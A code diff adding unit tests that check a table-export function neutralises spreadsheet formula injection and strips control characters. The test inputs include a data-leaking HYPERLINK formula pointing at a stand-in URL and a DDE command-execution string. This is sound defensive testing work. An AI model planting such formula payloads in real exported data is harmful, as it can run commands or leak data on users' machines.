@@ -63,4 +63,38 @@ TEST(TableTextTest, RowsOfTabsAndNewlinesKeepTheirShape)
     EXPECT_EQ(TabSeparated({{"通话中"}}), "通话中\n");
 }
 
+TEST(TableTextTest, PastedCellsNeverRunAsFormulas)
+{
+    const struct {
+        std::string cell;
+        std::string pasted;
+    } cases[] = {
+        {"=HYPERLINK(\"http://x\"&A1)", "'=HYPERLINK(\"http://x\"&A1)"},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-5", "'-5"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"Idle", "Idle"},
+        {"a=b", "a=b"},
+        {"\tx", " x"},                          // a tab inside a cell is a blank, as before
+        {"\x1B[31mred", "\xEF\xBF\xBD[31mred"}, // no control character reaches the clipboard
+        {"\x7F=x", "\xEF\xBF\xBD=x"},
+    };
+    for (const auto& c : cases)
+        EXPECT_EQ(TabSeparated({{"1", c.cell}}), "1\t" + c.pasted + "\n") << c.cell;
+}
+
+TEST(TableTextTest, ControlsBecomeTheReplacementCharacter)
+{
+    std::string all;
+    for (int b = 1; b < 0x20; ++b)
+        all += char(b);
+    all += "\x7F\xE9\x80\x9A";
+    std::string expected;
+    for (int b = 1; b <= 0x20; ++b)
+        expected += "\xEF\xBF\xBD";
+    expected += "\xE9\x80\x9A";
+    EXPECT_EQ(WithoutControls(all), expected);
+    EXPECT_EQ(WithoutControls("plain text"), "plain text");
+}
+
 } // namespace
